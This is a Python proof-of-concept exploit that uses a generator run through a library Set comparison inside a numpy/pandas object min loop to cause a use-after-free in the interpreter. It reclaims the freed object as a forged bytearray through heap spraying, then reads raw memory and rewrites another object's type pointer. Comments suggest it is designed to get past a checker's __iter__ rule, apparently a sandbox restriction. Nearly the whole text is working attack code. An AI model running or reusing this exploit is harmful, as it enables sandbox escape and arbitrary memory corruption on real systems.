# source: collections/abc.py Set.__le__ (for elem in self) + KeysView.__iter__ (yield from self._mapping); the check's __iter__ rule ('iterate an attribute') where the attribute is a script generator; numpy OBJECT_minimum loop; trigger: pd.Series(book).min()
# family: script generator run through an allowed __iter__ (iter(self.src)) from a library Set comparison inside numpy/pandas object min loops -> use-after-free -> forged bytearray
# goal: dangling reference to a freed frozenset returned by pd.Series(book).min(), reclaimed as a fake bytearray: raw memory read and type-pointer write
import collections.abc
import numpy as np
import pandas as pd


class Basket:
    def __init__(self, items, src):
        self.items = tuple(items)
        self.src = src

    def __len__(self):
        return len(self.items)

    def __iter__(self):
        return iter(self.src)


class Box:
    pass


class Other:
    pass


book = np.empty(2, dtype=object)


def feed():
    book[1] = 0
    yield 1


def q(n):
    return n.to_bytes(8, "little")


def bytearray_type():
    h = hash(bytearray) & (2**64 - 1)
    return ((h << 4) | (h >> 60)) & (2**64 - 1)


def where(o):
    return int(repr(o).split(" at ")[1].rstrip(">"), 16)


book[0] = collections.abc.KeysView(Basket([1], feed()))
book[1] = frozenset([2])
res = pd.Series(book).min()
fake = q(2**40) + q(bytearray_type()) + q(2**62) + q(2**62) + q(0) + q(0) + q(0)
spray = []
for k in range(8):
    b = bytearray(215)
    b[16:16 + len(fake)] = fake
    spray.append(b)
print("dangling object is now a bytearray:", type(res) is bytearray, len(res))
bx = Box()
ot = Other()
wb, wo = where(bx), where(ot)
print("Box at", hex(wb), "raw memory:", bytes(res[wb:wb + 16]).hex())
res[wb + 8:wb + 16] = res[wo + 8:wo + 16]
print("after a raw write of its type pointer, type(bx) is Other:", type(bx) is Other)
